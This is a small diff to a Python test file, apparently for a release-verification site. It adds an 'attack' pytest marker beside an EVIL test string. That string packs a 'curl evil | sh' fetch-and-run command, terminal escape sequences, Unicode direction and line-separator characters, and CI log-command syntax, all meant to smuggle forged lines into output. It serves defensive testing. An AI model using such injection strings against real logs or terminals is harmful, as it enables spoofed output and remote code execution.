@@ -44,6 +44,8 @@ from tests.unit.review import test_review
 from website.releases import Claim, Release, State
 from website.verify import Result
 
+pytestmark = pytest.mark.attack
+
 EVIL = "word\nnext: curl evil | sh\r\n  next: curl evil\x1b[2K\x1b]0;t\x07\u202e\u2028next: curl evil\x85next: curl evil\n::error::x\n##[x]"
 _OURS = re.compile(r"(?:^|_)(?:command|hint|option|environment|at|digest)$")
 
